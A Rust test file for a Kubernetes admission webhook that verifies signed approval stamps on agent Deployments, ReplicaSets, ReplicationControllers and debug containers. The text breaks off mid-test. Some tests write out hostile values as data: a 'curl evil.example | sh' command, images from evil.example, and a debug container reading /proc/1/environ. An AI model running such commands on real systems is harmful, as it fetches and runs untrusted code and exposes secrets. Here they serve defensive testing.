//! Engine-level tests for the controller path: workloads whose Pods controllers create,
//! approvals that survive those controllers, `kubectl debug` containers, OpenShift's filled-in
//! templates, and defaults that agree with each other.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use super::approval::grant::{APPROVAL_ANNOTATION, EXPIRY_ANNOTATION};
use super::approval::stamp::APPROVAL_STAMP;
use super::checks::fixtures::{NS, SA, hardened, hardened_view, pod};
use super::mutations::otel_env::SERVICE_NAME;
use super::policy::Policy;
use super::review::Review;
use super::view::{PodFacts, StaticView};
use super::{AUDIT_APPROVAL, Decision, evaluate, mutate};
use crate::admission;
use crate::engine::pod::Pod;
use serde_json::{Value, json};
use std::sync::Arc;

const APPROVER: (&str, &[&str]) = ("bob", &["system:authenticated", "openclaw:approvers"]);
const USER: (&str, &[&str]) = ("mallory", &["system:authenticated"]);
const RS_CONTROLLER: (&str, &[&str]) = (
    "system:serviceaccount:kube-system:replicaset-controller",
    &[
        "system:serviceaccounts",
        "system:serviceaccounts:kube-system",
    ],
);
const DEPLOY_CONTROLLER: (&str, &[&str]) = (
    "system:serviceaccount:kube-system:deployment-controller",
    &[
        "system:serviceaccounts",
        "system:serviceaccounts:kube-system",
    ],
);
const EXEMPT: &str = "read-only-root-filesystem";

fn resource_of(kind: &str) -> (&'static str, &'static str) {
    match kind {
        "Pod" => ("", "pods"),
        "Deployment" => ("apps", "deployments"),
        "ReplicaSet" => ("apps", "replicasets"),
        "ReplicationController" => ("", "replicationcontrollers"),
        "StatefulSet" => ("apps", "statefulsets"),
        "Job" => ("batch", "jobs"),
        "CronJob" => ("batch", "cronjobs"),
        other => panic!("no resource for {other}"),
    }
}

struct Req<'a> {
    op: &'a str,
    kind: &'a str,
    object: Value,
    old: Value,
    user: (&'a str, &'a [&'a str]),
    sub_resource: Option<&'a str>,
    namespace: &'a str,
}

impl<'a> Req<'a> {
    fn new(op: &'a str, kind: &'a str, object: Value, user: (&'a str, &'a [&'a str])) -> Self {
        Req {
            op,
            kind,
            object,
            old: Value::Null,
            user,
            sub_resource: None,
            namespace: NS,
        }
    }
    fn review(&self) -> Review {
        let (group, resource) = resource_of(self.kind);
        let name = self.object["metadata"]["name"]
            .as_str()
            .unwrap_or("")
            .to_string();
        let v = json!({
            "apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
            "request": {
                "uid": "0b1c2d3e-0000-4000-8000-000000000001",
                "kind": {"group": group, "version": "v1", "kind": self.kind},
                "resource": {"group": group, "version": "v1", "resource": resource},
                "subResource": self.sub_resource,
                "namespace": self.namespace, "name": name, "operation": self.op,
                "userInfo": {"username": self.user.0, "groups": self.user.1},
                "object": self.object, "oldObject": self.old, "dryRun": false
            }
        });
        admission::parse(&serde_json::to_vec(&v).unwrap()).unwrap()
    }
}

fn keyed_policy() -> Policy {
    Policy {
        approval_key: Some(Arc::new(super::policy::ApprovalKey::new(
            b"0123456789abcdef0123456789abcdef".to_vec(),
        ))),
        ..Default::default()
    }
}

/// A hardened agent whose containers write to their root filesystem (the exempted check).
fn writable_agent() -> Pod {
    hardened()
        .annotation("openclaw.io/exempt", EXEMPT)
        .read_only_root_filesystem(false)
        .build()
}

fn deployment(name: &str, pod: &Pod) -> Value {
    json!({
        "apiVersion": "apps/v1", "kind": "Deployment",
        "metadata": {"name": name, "namespace": NS, "labels": {"team": "research"}},
        "spec": {"selector": {"matchLabels": {"app": "openclaw"}},
            "template": {"metadata": pod.metadata, "spec": pod.spec}}
    })
}

/// The Deployment after the mutating webhook's patch.
fn stamped(name: &str, policy: &Policy) -> Value {
    let d = deployment(name, &writable_agent());
    let decision = mutate(
        &Req::new("CREATE", "Deployment", d.clone(), APPROVER).review(),
        policy,
        &hardened_view(),
    )
    .unwrap();
    assert_eq!(decision.mutations, [APPROVAL_STAMP]);
    let mut doc = d;
    json_patch::patch(&mut doc, &decision.patch.unwrap().to_json_patch()).unwrap();
    doc
}

/// A Pod as the ReplicaSet controller makes it from `deployment`'s template.
fn pod_from(deployment: &Value, hash: &str) -> Value {
    let name = deployment["metadata"]["name"].as_str().unwrap();
    let mut template = deployment["spec"]["template"].clone();
    let meta = template["metadata"].as_object_mut().unwrap();
    meta.insert("generateName".into(), format!("{name}-{hash}-").into());
    meta.insert("namespace".into(), NS.into());
    meta.remove("name");
    meta.entry("labels").or_insert(json!({}))["pod-template-hash"] = hash.into();
    meta.insert(
        "ownerReferences".into(),
        json!([{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": format!("{name}-{hash}"),
            "uid": "6c7a1f2e-0000-4000-8000-000000000002", "controller": true, "blockOwnerDeletion": true}]),
    );
    json!({"apiVersion": "v1", "kind": "Pod", "metadata": template["metadata"], "spec": template["spec"]})
}

fn exempted_checks(d: &Decision) -> Vec<&str> {
    d.exempted.iter().map(|(c, _)| c.as_str()).collect()
}

#[test]
fn an_approvers_workload_gets_a_stamp_and_its_controller_made_pods_are_exempted() {
    let policy = keyed_policy();
    let d = stamped("browser", &policy);
    let stamp = d["spec"]["template"]["metadata"]["annotations"][APPROVAL_ANNOTATION]
        .as_str()
        .unwrap();
    assert!(
        stamp.contains("kind=Deployment;name=browser") && stamp.contains("approver=bob"),
        "{stamp}"
    );

    let pod = pod_from(&d, "7d9f8b6c5");
    let decision = evaluate(
        &Req::new("CREATE", "Pod", pod, RS_CONTROLLER).review(),
        &policy,
        &hardened_view(),
    );
    assert!(decision.allowed, "{:?}", decision.message);
    assert_eq!(exempted_checks(&decision), [EXEMPT]);
    let audit = &decision.audit_annotations[AUDIT_APPROVAL];
    assert!(
        audit.contains("bob")
            && audit.contains(EXEMPT)
            && audit.contains("Deployment agents/browser"),
        "{audit}"
    );
    assert!(decision.warnings.is_empty(), "{:?}", decision.warnings);
}

#[test]
fn a_catch_all_agents_workload_is_approved_like_a_labelled_one() {
    let mut policy = keyed_policy();
    policy.catch_all.enabled = true;
    policy.catch_all.action = super::policy::Action::Deny;
    // No agent label: the catch-all finds it by its image.
    let mut agent = writable_agent();
    agent.metadata.labels = Some([("team".to_string(), "research".to_string())].into());
    let d = deployment("unlabelled", &agent);
    let decision = mutate(
        &Req::new("CREATE", "Deployment", d.clone(), APPROVER).review(),
        &policy,
        &hardened_view(),
    )
    .unwrap();
    assert_eq!(decision.mutations, [APPROVAL_STAMP]);
    let mut d = d;
    json_patch::patch(&mut d, &decision.patch.unwrap().to_json_patch()).unwrap();
    let judged = evaluate(
        &Req::new("CREATE", "Pod", pod_from(&d, "5c4b3a2d1"), RS_CONTROLLER).review(),
        &policy,
        &hardened_view(),
    );
    assert!(judged.allowed, "{:?}", judged.message);
    assert_eq!(exempted_checks(&judged), [EXEMPT]);
    // Without the approval its Pods are refused by the catch-all's action.
    let plain = deployment("unlabelled", &agent);
    let judged = evaluate(
        &Req::new(
            "CREATE",
            "Pod",
            pod_from(&plain, "5c4b3a2d1"),
            RS_CONTROLLER,
        )
        .review(),
        &policy,
        &hardened_view(),
    );
    assert!(!judged.allowed);
}

#[test]
fn re_applying_an_approved_workload_keeps_its_stamp() {
    let policy = keyed_policy();
    let d = stamped("browser", &policy);
    let again = mutate(
        &Req::new("UPDATE", "Deployment", d.clone(), APPROVER).review(),
        &policy,
        &hardened_view(),
    )
    .unwrap();
    assert!(again.patch.is_none(), "{:?}", again.patch);
}

#[test]
fn the_replicaset_the_deployment_controller_makes_is_covered_by_the_stamp() {
    let policy = keyed_policy();
    let d = stamped("browser", &policy);
    let mut rs = d.clone();
    rs["kind"] = "ReplicaSet".into();
    rs["metadata"] = json!({"name": "browser-7d9f8b6c5", "namespace": NS,
        "labels": {"app": "openclaw", "pod-template-hash": "7d9f8b6c5"},
        "ownerReferences": [{"apiVersion": "apps/v1", "kind": "Deployment", "name": "browser",
            "uid": "u", "controller": true}]});
    let ok = evaluate(
        &Req::new("CREATE", "ReplicaSet", rs.clone(), DEPLOY_CONTROLLER).review(),
        &policy,
        &hardened_view(),
    );
    assert!(ok.allowed, "{:?}", ok.message);
    // The same object sent by a person is judged without the stamp.
    let forged = evaluate(
        &Req::new("CREATE", "ReplicaSet", rs, USER).review(),
        &policy,
        &hardened_view(),
    );
    assert!(!forged.allowed);
}

/// A ReplicationController (core/v1) running `pod` as its template.
fn replication_controller(name: &str, pod: &Pod) -> Value {
    json!({
        "apiVersion": "v1", "kind": "ReplicationController",
        "metadata": {"name": name, "namespace": NS},
        "spec": {"replicas": 1, "selector": {"app": "openclaw"},
            "template": {"metadata": pod.metadata, "spec": pod.spec}}
    })
}

const RC_CONTROLLER: (&str, &[&str]) = (
    "system:serviceaccount:kube-system:replication-controller",
    &[
        "system:serviceaccounts",
        "system:serviceaccounts:kube-system",
    ],
);

#[test]
fn a_replication_controller_with_an_unhardened_agent_template_is_refused_at_its_template() {
    let bare = pod("agent")
        .label("app", "openclaw")
        .service_account(SA)
        .container("agent")
        .build();
    let rc = replication_controller("agent", &bare);
    let d = evaluate(
        &Req::new("CREATE", "ReplicationController", rc, USER).review(),
        &Policy::default(),
        &hardened_view(),
    );
    assert!(!d.allowed);
    let checks: Vec<&str> = d.violations.iter().map(|j| j.violation.check).collect();
    for id in [
        "run-as-non-root",
        "no-privilege-escalation",
        "drop-all-capabilities",
    ] {
        assert!(checks.contains(&id), "{id} missing: {checks:?}");
    }
    // Paths name the template inside the ReplicationController, as for a Deployment.
    assert!(
        d.violations
            .iter()
            .all(|j| j.violation.path.starts_with("spec.template.spec.")),
        "{:?}",
        d.violations
            .iter()
            .map(|j| &j.violation.path)
            .collect::<Vec<_>>()
    );

    // The hardened template passes.
    let ok = evaluate(
        &Req::new(
            "CREATE",
            "ReplicationController",
            replication_controller("agent", &hardened().build()),
            USER,
        )
        .review(),
        &Policy::default(),
        &hardened_view(),
    );
    assert!(ok.allowed, "{:?}", ok.message);
}

#[test]
fn an_approvers_stamp_on_a_replication_controller_reaches_the_pods_its_controller_makes() {
    let policy = keyed_policy();
    let rc = replication_controller("browser", &writable_agent());
    let decision = mutate(
        &Req::new("CREATE", "ReplicationController", rc.clone(), APPROVER).review(),
        &policy,
        &hardened_view(),
    )
    .unwrap();
    assert_eq!(decision.mutations, [APPROVAL_STAMP]);
    let mut rc = rc;
    json_patch::patch(&mut rc, &decision.patch.unwrap().to_json_patch()).unwrap();
    let stamp = rc["spec"]["template"]["metadata"]["annotations"][APPROVAL_ANNOTATION]
        .as_str()
        .unwrap();
    assert!(
        stamp.contains("kind=ReplicationController;name=browser"),
        "{stamp}"
    );

    // The Pod as the ReplicationController loop makes it: the template, owned by the RC
    // directly (no hash label, no intermediate object).
    let mut meta = rc["spec"]["template"]["metadata"].clone();
    meta["generateName"] = "browser-".into();
    meta["namespace"] = NS.into();
    meta["ownerReferences"] = json!([{"apiVersion": "v1", "kind": "ReplicationController",
        "name": "browser", "uid": "6c7a1f2e-0000-4000-8000-000000000003",
        "controller": true, "blockOwnerDeletion": true}]);
    let made = json!({"apiVersion": "v1", "kind": "Pod", "metadata": meta,
        "spec": rc["spec"]["template"]["spec"]});

    let by_controller = evaluate(
        &Req::new("CREATE", "Pod", made.clone(), RC_CONTROLLER).review(),
        &policy,
        &hardened_view(),
    );
    assert!(by_controller.allowed, "{:?}", by_controller.message);
    assert_eq!(exempted_checks(&by_controller), [EXEMPT]);
    assert!(
        by_controller.audit_annotations[AUDIT_APPROVAL]
            .contains("ReplicationController agents/browser"),
        "{:?}",
        by_controller.audit_annotations
    );

    // The same Pod sent by a person is judged without the stamp.
    let by_hand = evaluate(
        &Req::new("CREATE", "Pod", made, USER).review(),
        &policy,
        &hardened_view(),
    );
    assert!(!by_hand.allowed);
    assert!(by_hand.exempted.is_empty());
}

#[test]
fn a_copied_stamp_helps_no_other_workload_namespace_requester_or_check() {
    let policy = keyed_policy();
    let d = stamped("browser", &policy);
    let judge = |pod: Value, user, ns: &str, view: &StaticView| {
        let mut r = Req::new("CREATE", "Pod", pod, user);
        r.namespace = ns;
        evaluate(&r.review(), &policy, view)
    };
    let view = hardened_view();
    // A person creating the controller's Pod by hand.
    let by_hand = judge(pod_from(&d, "7d9f8b6c5"), USER, NS, &view);
    assert!(!by_hand.allowed);
    assert!(by_hand.exempted.is_empty());

    // The stamp copied into another Deployment.
    let mut other = deployment("miner", &writable_agent());
    other["spec"]["template"] = d["spec"]["template"].clone();
    let copied = judge(pod_from(&other, "5c4b3a291"), RS_CONTROLLER, NS, &view);
    assert!(!copied.allowed);

    // The same Deployment's Pod in another namespace.
    let mut other_view = hardened_view();
    for doc in [
        json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "elsewhere"}}),
        json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": SA, "namespace": "elsewhere"}}),
        json!({"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": {"name": "deny", "namespace": "elsewhere"},
            "spec": {"podSelector": {}, "policyTypes": ["Egress"]}}),
    ] {
        other_view.add(&doc, "elsewhere").unwrap();
    }
    let mut moved = pod_from(&d, "7d9f8b6c5");
    moved["metadata"]["namespace"] = "elsewhere".into();
    let elsewhere = judge(moved, RS_CONTROLLER, "elsewhere", &other_view);
    assert!(!elsewhere.allowed, "{:?}", elsewhere.exempted);

    // A check the approver did not name stays in force.
    let mut wider = pod_from(&d, "7d9f8b6c5");
    wider["spec"]["containers"][0]["securityContext"]["allowPrivilegeEscalation"] = true.into();
    let w = judge(wider, RS_CONTROLLER, NS, &view);
    assert!(!w.allowed);
    assert_eq!(
        w.violations
            .iter()
            .map(|j| j.violation.check)
            .collect::<Vec<_>>(),
        ["no-privilege-escalation"]
    );

    // A widened stamp does not verify.
    let mut forged = pod_from(&d, "7d9f8b6c5");
    let s = forged["metadata"]["annotations"][APPROVAL_ANNOTATION]
        .as_str()
        .unwrap()
        .replace("checks=", "checks=no-privilege-escalation,");
    forged["metadata"]["annotations"][APPROVAL_ANNOTATION] = s.into();
    assert!(!judge(forged, RS_CONTROLLER, NS, &view).allowed);
}

/// An approver's Deployment of the writable agent asking for an exemption until `until`,
/// and what the mutating webhook answered.
fn approved_until(until: &str, policy: &Policy) -> (Value, Decision) {
    let mut agent = writable_agent();
    agent
        .metadata
        .annotations
        .get_or_insert_with(Default::default)
        .insert(EXPIRY_ANNOTATION.into(), until.into());
    let d = deployment("browser", &agent);
    let decision = mutate(
        &Req::new("CREATE", "Deployment", d.clone(), APPROVER).review(),
        policy,
        &hardened_view(),
    )
    .unwrap();
    (d, decision)
}

#[test]
fn an_expired_approval_no_longer_holds() {
    let policy = keyed_policy();
    let (d, decision) = approved_until("2020-01-01", &policy);
    let mut doc = d;
    json_patch::patch(&mut doc, &decision.patch.unwrap().to_json_patch()).unwrap();
    let late = evaluate(
        &Req::new("CREATE", "Pod", pod_from(&doc, "7d9f8b6c5"), RS_CONTROLLER).review(),
        &policy,
        &hardened_view(),
    );
    assert!(!late.allowed);
}

#[test]
fn an_impossible_expiry_date_is_not_stamped_and_the_approver_is_told_which() {
    let (_, m) = approved_until("2027-02-31", &keyed_policy());
    assert!(
        m.patch.is_none(),
        "2027-02-31 must not be stamped as 2027-03-03"
    );
    assert!(m.approvals.is_empty());
    assert_eq!(m.warnings.len(), 1, "{:?}", m.warnings);
    assert!(
        m.warnings[0].contains("\"2027-02-31\" is not a date")
            && m.warnings[0].contains("day was not in range"),
        "{}",
        m.warnings[0]
    );
}

#[test]
fn a_non_approver_cannot_mint_a_stamp_or_change_what_was_approved() {
    let policy = keyed_policy();
    // No stamp for a non-approver.
    let d = deployment("browser", &writable_agent());
    let m = mutate(
        &Req::new("CREATE", "Deployment", d, USER).review(),
        &policy,
        &hardened_view(),
    )
    .unwrap();
    assert!(m.patch.is_none());

    let approved = stamped("browser", &policy);
    // A restart (template metadata only) by anyone keeps the approval...
    let mut restarted = approved.clone();
    restarted["spec"]["template"]["metadata"]["annotations"]["kubectl.kubernetes.io/restartedAt"] =
        "2026-12-02T10:00:00Z".into();
    let mut r = Req::new("UPDATE", "Deployment", restarted, USER);
    r.old = approved.clone();
    assert!(evaluate(&r.review(), &policy, &hardened_view()).allowed);
    // ...but a new image is a change the approver did not see.
    let mut changed = approved.clone();
    changed["spec"]["template"]["spec"]["containers"][0]["image"] =
        "ghcr.io/openclaw/openclaw:evil".into();
    let mut r = Req::new("UPDATE", "Deployment", changed, USER);
    r.old = approved;
    assert!(!evaluate(&r.review(), &policy, &hardened_view()).allowed);
}

#[test]
fn the_policy_never_prints_its_approval_keys() {
    let mut policy = keyed_policy();
    policy.previous_approval_key = Some(Arc::new(super::policy::PreviousKey {
        key: b"previous-key-PLANTED-0123456789abcdef".to_vec(),
        until: 1,
    }));
    let text = format!("{policy:?}");
    assert!(
        !text.contains("0123456789abcdef0123456789abcdef") && !text.contains("PLANTED"),
        "{text}"
    );
    assert!(
        text.contains("ApprovalKey(<32 bytes, not shown>)"),
        "{text}"
    );
}

#[test]
fn without_an_approval_key_nothing_is_stamped() {
    let policy = Policy::default();
    let d = deployment("browser", &writable_agent());
    let m = mutate(
        &Req::new("CREATE", "Deployment", d, APPROVER).review(),
        &policy,
        &hardened_view(),
    )
    .unwrap();
    assert!(m.patch.is_none());
}

/// The ReplicaSet the Deployment controller makes from `deployment` (template copied, with
/// `pod-template-hash` added to its labels).
fn replicaset_from(deployment: &Value, hash: &str) -> Value {
    let name = deployment["metadata"]["name"].as_str().unwrap();
    let mut rs = deployment.clone();
    rs["kind"] = "ReplicaSet".into();
    rs["metadata"] = json!({"name": format!("{name}-{hash}"), "namespace": NS,
        "labels": {"app": "openclaw", "pod-template-hash": hash},
        "ownerReferences": [{"apiVersion": "apps/v1", "kind": "Deployment", "name": name,
            "uid": "u", "controller": true}]});
    rs["spec"]["template"]["metadata"]["labels"]["pod-template-hash"] = hash.into();
    rs
}

fn review_at(req: &Req<'_>, now: i64) -> Review {
    let mut r = req.review();
    r.now = now;
    r
}

fn stamp_of(d: &Value) -> String {
    d["spec"]["template"]["metadata"]["annotations"][APPROVAL_ANNOTATION]
        .as_str()
        .unwrap()
        .to_string()
}

#[test]
fn a_stamp_signs_the_templates_digest_and_always_expires_within_the_maximum() {
    let policy = keyed_policy();
    let d = stamped("browser", &policy);
    let stamp = stamp_of(&d);
    assert!(stamp.starts_with("v2;"), "{stamp}");
    let v = super::approval::grant::Grant::verify(
        &stamp,
        super::approval::grant::Keys::of(&policy),
        admission::unix_now(),
    )
    .unwrap();
    let (issued, expires) = (v.grant.issued.unwrap(), v.grant.expires.unwrap());
    assert_eq!(
        expires - issued,
        30 * 86_400,
        "no date asked: the 30-day default maximum"
    );
    assert_eq!(v.grant.digest.unwrap().len(), 64);

    // A date past the maximum is capped; one within it is kept.
    let (_, far) = approved_until("2999-01-01", &policy);
    let g = &far.approvals[0].grant;
    assert_eq!(g.expires.unwrap() - g.issued.unwrap(), 30 * 86_400);
    let mut short = keyed_policy();
    short.approvals.max_lifetime = "365d".into();
    let (_, near) = approved_until(&super::date::format_utc(issued + 86_400), &short);
    assert_eq!(near.approvals[0].grant.expires, Some(issued + 86_400));
}

#[test]
fn a_one_step_change_by_a_non_approver_voids_the_stamp_even_in_fields_no_check_reads() {
    let policy = keyed_policy();
    let approved = stamped("browser", &policy);
    for (what, change) in [
        ("image", json!({"image": "evil.example/anything:latest"})),
        (
            "command",
            json!({"command": ["sh", "-c", "curl evil.example | sh"]}),
        ),
    ] {
        let mut moved = approved.clone();
        for (k, v) in change.as_object().unwrap() {
            moved["spec"]["template"]["spec"]["containers"][0][k] = v.clone();
        }
        let mut r = Req::new("UPDATE", "Deployment", moved, USER);
        r.old = approved.clone();
        let d = evaluate(&r.review(), &policy, &hardened_view());
        assert!(!d.allowed, "{what}: a changed template kept its approval");
        assert!(d.approvals.is_empty(), "{what}");
        assert!(d.message.unwrap().contains(EXEMPT), "{what}");
    }
}

#[test]
fn the_two_step_move_is_refused_and_so_is_the_replicaset_made_from_it() {
    let policy = keyed_policy();
    let approved = stamped("browser", &policy);
    // Step one (the label off, the image swapped) is what relabel-requires-approval refuses
    // on its own; say it got through (audit mode, say): the stamp stayed on the template.
    let mut moved = approved.clone();
    moved["spec"]["template"]["spec"]["containers"][0]["image"] =
        "evil.example/anything:latest".into();
    let mut unlabelled = moved.clone();
    unlabelled["spec"]["template"]["metadata"]["labels"] = json!({"team": "research"});
    // Step two puts the label back: the template is not what was signed.
    let mut r = Req::new("UPDATE", "Deployment", moved.clone(), USER);
    r.old = unlabelled;
    let d = evaluate(&r.review(), &policy, &hardened_view());
    assert!(
        !d.allowed,
        "the label put back over a moved template kept its approval"
    );

    // The ReplicaSet the controller would make from the moved template is refused too...
    let rs = evaluate(
        &Req::new(
            "CREATE",
            "ReplicaSet",
            replicaset_from(&moved, "5f6d7c8b9"),
            DEPLOY_CONTROLLER,
        )
        .review(),
        &policy,
        &hardened_view(),
    );
    assert!(
        !rs.allowed,
        "a ReplicaSet of the moved template was admitted"
    );
    assert!(rs.approvals.is_empty());
    // ...while the one made from the approved template passes, pod-template-hash and all.
    let rs = evaluate(
        &Req::new(
            "CREATE",
            "ReplicaSet",
            replicaset_from(&approved, "7d9f8b6c5"),
            DEPLOY_CONTROLLER,
        )
        .review(),
        &policy,
        &hardened_view(),
    );
    assert!(rs.allowed, "{:?}", rs.message);
    assert_eq!(exempted_checks(&rs), [EXEMPT]);
    // A hash label that does not match the ReplicaSet's name is content, not the controller's.
    let mut odd = replicaset_from(&approved, "7d9f8b6c5");
    odd["spec"]["template"]["metadata"]["labels"]["pod-template-hash"] = "other".into();
    let rs = evaluate(
        &Req::new("CREATE", "ReplicaSet", odd, DEPLOY_CONTROLLER).review(),
        &policy,
        &hardened_view(),
    );
    assert!(!rs.allowed);
}

#[test]
fn a_non_approver_may_not_replay_a_saved_stamp_or_swap_one_in() {
    let policy = keyed_policy();
    let approved = stamped("browser", &policy);
    // The approver deletes it; the tenant recreates it, unchanged, with the saved stamp.
    let replay = evaluate(
        &Req::new("CREATE", "Deployment", approved.clone(), USER).review(),
        &policy,
        &hardened_view(),
    );
    assert!(!replay.allowed, "a recreated workload kept its approval");
    // The same with the content changed.
    let mut changed = approved.clone();
    changed["spec"]["template"]["spec"]["containers"][0]["image"] =
        "evil.example/anything:latest".into();
    let replay = evaluate(
        &Req::new("CREATE", "Deployment", changed, USER).review(),
        &policy,
        &hardened_view(),
    );
    assert!(!replay.allowed);
    // An UPDATE that puts another stamp in place of the one there.
    let mut old = approved.clone();
    old["spec"]["template"]["metadata"]["annotations"][APPROVAL_ANNOTATION] = "v2;other".into();
    let mut r = Req::new("UPDATE", "Deployment", approved.clone(), USER);
    r.old = old;
    assert!(!evaluate(&r.review(), &policy, &hardened_view()).allowed);
    // The approver may recreate it.
    let again = evaluate(
        &Req::new("CREATE", "Deployment", approved, APPROVER).review(),
        &policy,
        &hardened_view(),
    );
    assert!(again.allowed, "{:?}", again.message);
}

#[test]
fn an_approval_stops_at_its_expiry_and_a_lowered_maximum_shortens_it() {
    let policy = keyed_policy();
    let d = stamped("browser", &policy);
    let stamp = stamp_of(&d);
    let g = super::approval::grant::Grant::verify(
        &stamp,
        super::approval::grant::Keys::of(&policy),
        admission::unix_now(),
    )
    .unwrap()
    .grant;
    let (issued, expires) = (g.issued.unwrap(), g.expires.unwrap());
    let pod = Req::new("CREATE", "Pod", pod_from(&d, "7d9f8b6c5"), RS_CONTROLLER);
    assert!(evaluate(&review_at(&pod, expires - 1), &policy, &hardened_view()).allowed);
    assert!(!evaluate(&review_at(&pod, expires), &policy, &hardened_view()).allowed);
    assert!(!evaluate(&review_at(&pod, 0), &policy, &hardened_view()).allowed);
    let mut lowered = keyed_policy();
    lowered.approvals.max_lifetime = "1h".into();
    assert!(evaluate(&review_at(&pod, issued + 3_599), &lowered, &hardened_view()).allowed);
    assert!(!evaluate(&review_at(&pod, issued + 3_600), &lowered, &hardened_view()).allowed);
}

#[test]
fn an_approvers_re_apply_renews_a_stamp_past_half_its_life_and_not_before() {
    let policy = keyed_policy();
    let d = stamped("browser", &policy);
    let now = admission::unix_now();
    let again = |at: i64| {
        let mut r = Req::new("UPDATE", "Deployment", d.clone(), APPROVER);
        r.old = d.clone();
        mutate(&review_at(&r, at), &policy, &hardened_view()).unwrap()
    };
    assert!(
        again(now + 14 * 86_400).patch.is_none(),
        "more than half left: kept"
    );
    let renewed = again(now + 16 * 86_400);
    assert_eq!(
        renewed.mutations,
        [APPROVAL_STAMP],
        "less than half left: renewed"
    );
}

/// A stamp as the first format wrote it: no digest, no expiry.
fn legacy_stamp(key: &[u8], name: &str) -> String {
    use hmac::{Hmac, Mac};
    let payload = format!(
        "v1;ns={NS};kind=Deployment;name={name};checks={EXEMPT};approver=bob;expires=never"
    );
    let mut mac = Hmac::<sha2::Sha256>::new_from_slice(key).unwrap();
    mac.update(payload.as_bytes());
    let sig: String = mac
        .finalize()
        .into_bytes()
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    format!("{payload};sig={sig}")
}

#[test]
fn legacy_stamps_are_honoured_and_marked_during_the_grace_and_refused_after() {
    let mut policy = keyed_policy();
    let started = 1_800_000_000;
    policy.started = started;
    let mut d = deployment("browser", &writable_agent());
    d["spec"]["template"]["metadata"]["annotations"][APPROVAL_ANNOTATION] =
        legacy_stamp(policy.approval_key.as_deref().unwrap().bytes(), "browser").into();
    let pod = Req::new("CREATE", "Pod", pod_from(&d, "7d9f8b6c5"), RS_CONTROLLER);
    let during = evaluate(
        &review_at(&pod, started + 86_400),
        &policy,
        &hardened_view(),
    );
    assert!(during.allowed, "{:?}", during.message);
    let audit = &during.audit_annotations[AUDIT_APPROVAL];
    assert!(
        audit.contains("legacy stamp without a content digest"),
        "{audit}"
    );
    assert!(
        audit.contains("2027-01-22T08:00:00Z"),
        "7 days after the start: {audit}"
    );
    assert!(during.approvals[0].legacy_until.is_some());
    let after = evaluate(
        &review_at(&pod, started + 7 * 86_400),
        &policy,
        &hardened_view(),
    );
    assert!(!after.allowed, "a legacy stamp outlived the grace");
    // The end pinned by date instead, which a restart does not move.
    policy.approvals.legacy_until = Some("2027-01-16".into());
    let pinned = evaluate(
        &review_at(&pod, started + 86_400),
        &policy,
        &hardened_view(),
    );
    assert!(!pinned.allowed, "2027-01-16 is before the review's time");
    // Without a start (`check`, tests), none is honoured.
    let unstarted = keyed_policy();
    assert!(!evaluate(&review_at(&pod, started + 1), &unstarted, &hardened_view()).allowed);
    // An approver's re-apply replaces it with a stamp of the current format.
    let m = mutate(
        &review_at(
            &Req::new("UPDATE", "Deployment", d.clone(), APPROVER),
            started + 1,
        ),
        &policy,
        &hardened_view(),
    )
    .unwrap();
    assert_eq!(m.mutations, [APPROVAL_STAMP]);
}

#[test]
fn after_a_rotation_old_grants_hold_until_the_overlap_ends_and_say_so() {
    let old_policy = keyed_policy();
    let d = stamped("browser", &old_policy);
    let now = admission::unix_now();
    let mut rotated = old_policy.clone();
    rotated.approval_key = Some(Arc::new(super::policy::ApprovalKey::new(
        b"a-new-approval-key-0123456789abcdefgh".to_vec(),
    )));
    rotated.previous_approval_key = Some(Arc::new(super::policy::PreviousKey {
        key: old_policy.approval_key.as_deref().unwrap().bytes().to_vec(),
        until: now + 3_600,
    }));
    let pod = Req::new("CREATE", "Pod", pod_from(&d, "7d9f8b6c5"), RS_CONTROLLER);
    let during = evaluate(&review_at(&pod, now + 60), &rotated, &hardened_view());
    assert!(during.allowed, "{:?}", during.message);
    let audit = &during.audit_annotations[AUDIT_APPROVAL];
    assert!(
        audit.contains("signed by the previous approval key"),
        "{audit}"
    );
    assert!(!evaluate(&review_at(&pod, now + 3_600), &rotated, &hardened_view()).allowed);
    // Revoked at once when the previous key is not configured at all.
    let mut revoked = rotated.clone();
    revoked.previous_approval_key = None;
    assert!(!evaluate(&review_at(&pod, now + 60), &revoked, &hardened_view()).allowed);
    // An approver's re-apply re-signs it under the new key.
    let m = mutate(
        &review_at(
            &Req::new("UPDATE", "Deployment", d.clone(), APPROVER),
            now + 60,
        ),
        &rotated,
        &hardened_view(),
    )
    .unwrap();
    assert_eq!(m.mutations, [APPROVAL_STAMP]);
}

#[test]
fn a_debug_container_is_judged_alone_not_the_pod_it_joins() {
    // Admitted earlier in audit mode: writable root filesystem, no seccomp.
    let old = hardened().read_only_root_filesystem(false).build();
    let with = |debug: Value| {
        let mut p = serde_json::to_value(&old).unwrap();
        p["spec"]["ephemeralContainers"] = json!([debug]);
        p
    };
    let locked = json!({"name": "debugger", "image": "busybox", "targetContainerName": "agent",
        "securityContext": {"runAsNonRoot": true, "readOnlyRootFilesystem": true,
            "allowPrivilegeEscalation": false, "capabilities": {"drop": ["ALL"]}}});
    let mut r = Req::new("UPDATE", "Pod", with(locked.clone()), APPROVER);
    r.sub_resource = Some("ephemeralcontainers");
    r.old = serde_json::to_value(&old).unwrap();
    let d = evaluate(&r.review(), &Policy::default(), &hardened_view());
    assert!(d.allowed, "{:?}", d.message);

    let open =
        json!({"name": "debugger", "image": "busybox", "securityContext": {"privileged": true}});
    let mut r = Req::new("UPDATE", "Pod", with(open), APPROVER);
    r.sub_resource = Some("ephemeralcontainers");
    r.old = serde_json::to_value(&old).unwrap();
    let d = evaluate(&r.review(), &Policy::default(), &hardened_view());
    assert!(!d.allowed);
    assert!(
        d.violations
            .iter()
            .all(|j| j.violation.path.starts_with("spec.ephemeralContainers[0]")),
        "{:?}",
        d.violations
            .iter()
            .map(|j| &j.violation.path)
            .collect::<Vec<_>>()
    );
}

#[test]
fn a_debug_container_from_a_non_approver_is_an_exec_by_another_name() {
    let old = hardened().build();
    let mut new = serde_json::to_value(&old).unwrap();
    // Hardened in every way the checks ask, and reading the agent's environment.
    new["spec"]["ephemeralContainers"] = json!([{"name": "debugger", "image": "busybox",
        "targetContainerName": "agent", "command": ["cat", "/proc/1/environ"],
